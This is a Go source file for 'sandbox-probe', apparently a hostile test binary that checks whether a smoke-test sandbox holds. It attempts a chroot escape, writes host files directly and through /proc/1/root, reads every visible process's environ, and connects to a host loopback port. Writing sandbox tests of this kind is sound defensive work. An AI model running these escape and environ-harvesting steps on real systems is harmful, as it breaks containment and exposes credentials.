// sandbox-probe is the hostile binary of the smoke-test sandbox tests: a static program, put into an
// image's root filesystem, that tries what image code could try against the runner that smoke-tests
// it. It reports each attempt on stdout and always exits 0, so a smoke test "passes" whatever
// happened: the tests judge the sandbox by what changed outside it, never by this program's word.
//
//	sandbox-probe attack HOST_FILE REPO_FILE PID PORT [LINGER_SECONDS]
//
//  1. the classic chroot escape (mkdir x; chroot x; chdir .. many times; chroot .), then a write of
//     HOST_FILE and a read of REPO_FILE from wherever that lands;
//  2. a read of /proc/PID/environ (the action's own process) and of every environ /proc shows;
//  3. a TCP connect() to 127.0.0.1:PORT (a listener on the host's loopback);
//  4. a direct write of HOST_FILE, and of HOST_FILE through /proc/1/root;
//  5. what it is: ids, capabilities, no_new_privs, its uid_map, hostname;
//  6. then it stays LINGER_SECONDS, so that the host can look at it from outside.
//
// It uses only the syscall package (no net, no cgo), so `go build` makes a static binary that runs
// in an image with no libc.
package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func report(what string, err error) {
	if err != nil {
		fmt.Printf("%s: refused (%v)\n", what, err)
	} else {
		fmt.Printf("%s: DONE\n", what)
	}
}

func chrootEscape(hostFile, repoFile string) {
	_ = os.Mkdir("/escape-x", 0o755)
	if err := syscall.Chroot("/escape-x"); err != nil {
		report("chroot escape", err)
		return
	}
	for i := 0; i < 64; i++ {
		_ = syscall.Chdir("..")
	}
	if err := syscall.Chroot("."); err != nil {
		report("chroot escape", err)
		return
	}
	report("chroot escape: write host file", os.WriteFile(hostFile, []byte("escaped\n"), 0o644))
	data, err := os.ReadFile(repoFile)
	report("chroot escape: read repository file", err)
	if err == nil {
		fmt.Printf("repository file: %q\n", firstLine(data))
	}
}

func readEnvirons(pid string) {
	data, err := os.ReadFile("/proc/" + pid + "/environ")
	report("read the action's environ", err)
	if err == nil {
		fmt.Printf("environ of %s: %q\n", pid, strings.ReplaceAll(string(data), "\x00", " "))
	}
	entries, _ := os.ReadDir("/proc")
	for _, entry := range entries {
		if _, err := strconv.Atoi(entry.Name()); err != nil {
			continue
		}
		if data, err := os.ReadFile("/proc/" + entry.Name() + "/environ"); err == nil {
			fmt.Printf("visible environ of pid %s: %q\n", entry.Name(), strings.ReplaceAll(string(data), "\x00", " "))
		}
	}
}

func connectLoopback(port string) {
	number, err := strconv.Atoi(port)
	if err != nil {
		report("connect to the host's loopback", err)
		return
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)
	if err != nil {
		report("connect to the host's loopback", err)
		return
	}
	defer syscall.Close(fd)
	err = syscall.Connect(fd, &syscall.SockaddrInet4{Port: number, Addr: [4]byte{127, 0, 0, 1}})
	if err == nil {
		_, err = syscall.Write(fd, []byte("hello from the sandbox\n"))
	}
	report("connect to the host's loopback", err)
}

func whoAmI() {
	if data, err := os.ReadFile("/proc/self/status"); err == nil {
		for _, line := range strings.Split(string(data), "\n") {
			for _, key := range []string{"Uid:", "Gid:", "Groups:", "CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:", "NoNewPrivs:", "Seccomp:"} {
				if strings.HasPrefix(line, key) {
					fmt.Println("status " + strings.Join(strings.Fields(line), " "))
				}
			}
		}
	}
	if data, err := os.ReadFile("/proc/self/uid_map"); err == nil {
		fmt.Println("uid_map " + strings.Join(strings.Fields(string(data)), " "))
	}
	if data, err := os.ReadFile("/proc/self/gid_map"); err == nil {
		fmt.Println("gid_map " + strings.Join(strings.Fields(string(data)), " "))
	}
	if name, err := os.Hostname(); err == nil {
		fmt.Println("hostname " + name)
	}
	fmt.Println("pid " + strconv.Itoa(os.Getpid()))
	fmt.Println("env " + strings.Join(os.Environ(), " "))
}

func firstLine(data []byte) string {
	text := string(data)
	if i := strings.IndexByte(text, '\n'); i >= 0 {
		return text[:i]
	}
	return text
}

func main() {
	if len(os.Args) < 6 || len(os.Args) > 7 || os.Args[1] != "attack" {
		fmt.Fprintln(os.Stderr, "usage: sandbox-probe attack HOST_FILE REPO_FILE PID PORT [LINGER_SECONDS]")
		os.Exit(2)
	}
	hostFile, repoFile, pid, port := os.Args[2], os.Args[3], os.Args[4], os.Args[5]
	whoAmI()
	report("write host file", os.WriteFile(hostFile, []byte("written\n"), 0o644))
	report("write host file through /proc/1/root", os.WriteFile("/proc/1/root"+hostFile, []byte("written\n"), 0o644))
	readEnvirons(pid)
	connectLoopback(port)
	chrootEscape(hostFile, repoFile)
	if len(os.Args) == 7 {
		if seconds, err := strconv.Atoi(os.Args[6]); err == nil {
			time.Sleep(time.Duration(seconds) * time.Second)
		}
	}
}
